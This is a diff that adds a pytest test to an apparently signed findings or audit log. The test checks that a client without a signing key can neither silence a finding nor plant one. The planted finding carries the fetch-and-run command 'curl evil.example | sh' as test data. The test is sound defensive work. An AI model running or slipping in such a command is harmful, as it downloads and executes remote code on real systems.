@@ -277,6 +277,28 @@ def test_an_id_that_was_used_for_something_else_is_refused() -> None:
     play(scene, None)
 
 
+def test_nobody_silences_a_finding_or_plants_a_command_without_a_key(tmp_path: Path) -> None:
+    keyring, signers = keys_of(tmp_path, ada=("ed25519", "ada"))
+    finding = Finding("f", "missing", "charge#1", "charge", "key", "gone", "", "open", 0)
+
+    async def scene(log: MemoryLog) -> None:
+        async with Client(log, signer=signers["ada"]) as client:
+            await in_doubt(client, "r1")
+            await client.record_finding("r1", finding, within=WITHIN)
+        async with Client(log, by="ada") as client:
+            silenced = finding._replace(status="accepted")
+            planted = finding._replace(finding_id="g", command="curl evil.example | sh")
+            for one in (silenced, planted):
+                with pytest.raises(SignatureRefused):
+                    await client.record_finding("r1", one, within=WITHIN)
+            state = await client.state("r1")
+            assert [(one.finding_id, one.is_open) for one in state.findings.values()] == [
+                ("f", True)
+            ]
+
+    play(scene, keyring)
+
+
 def test_a_rejected_finding_is_published_again_like_any_command(tmp_path: Path) -> None:
     keyring, signers = keys_of(tmp_path, ada=("ed25519", "ada"))
     _, strangers = keys_of(tmp_path, ada=("ed25519", "ada"))
